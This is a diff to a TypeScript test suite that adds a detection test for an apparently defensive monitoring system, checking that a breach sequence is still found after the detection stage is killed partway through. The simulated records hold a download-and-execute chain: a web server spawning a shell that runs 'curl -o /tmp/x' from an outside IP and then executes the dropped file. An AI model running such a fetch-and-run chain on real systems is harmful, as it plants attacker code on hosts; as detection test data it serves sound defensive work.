@@ -1,8 +1,9 @@
 // What a killed stage must not forget, lose or do twice. Every part is real.
-import { create, toBinary } from '@bufbuild/protobuf';
+import { create, fromBinary, toBinary } from '@bufbuild/protobuf';
 import type { BusRecord, OutRecord } from '@norn/bus';
-import { BatchWriter, event, openBatch } from '@norn/contracts';
+import { BatchWriter, event, finding, openBatch } from '@norn/contracts';
 import { SimulatedHost } from '@norn/testkit';
+import { batchRecord, process } from '@norn/detection/simulated-host';
 import { type StageTrial, eventually, startStageTrial } from './stage-trial.ts';
 
 let trial: StageTrial;
@@ -130,6 +131,30 @@ describe('process-tree', () => {
     expect(afterKills).toEqual(await seen(spared, 21));
     await stage.stop();
   }, 120_000);
+});
+
+describe('detection', () => {
+  const server = process('nginx', undefined, { imagePath: '/usr/sbin/nginx' });
+  const shell = process('sh', server, { imagePath: '/bin/sh', commandLine: 'sh -c id' });
+  const curl = process('curl', shell, { commandLine: 'curl -o /tmp/x http://192.0.2.7/x' });
+  const dropped = process('x', shell, { imagePath: '/tmp/x' });
+  const batches = [shell, curl, dropped, server].map((by, at) =>
+    batchRecord({ seq: at + 1, rows: [{ kind: event.EventKind.EXEC, by, afterMs: at * 4_000 }] }, 'default:breached'),
+  );
+  const titles = async (): Promise<string[]> =>
+    (await trial.records('findings')).map(({ value }) => fromBinary(finding.FindingSchema, value).title);
+
+  it('finds a sequence although it was killed in the middle of it', async () => {
+    const stage = trial.stage('detection');
+    await stage.start();
+    await trial.producer.send('lineage', batches.slice(0, 2));
+    await eventually(titles, (found) => found.includes('Web or database server starts a shell'));
+    await stage.kill();
+    await trial.producer.send('lineage', batches.slice(2));
+    await stage.start();
+    await eventually(titles, (found) => found.includes('A service was breached'));
+    await stage.stop();
+  }, 60_000);
 });
 
 describe('storage', () => {
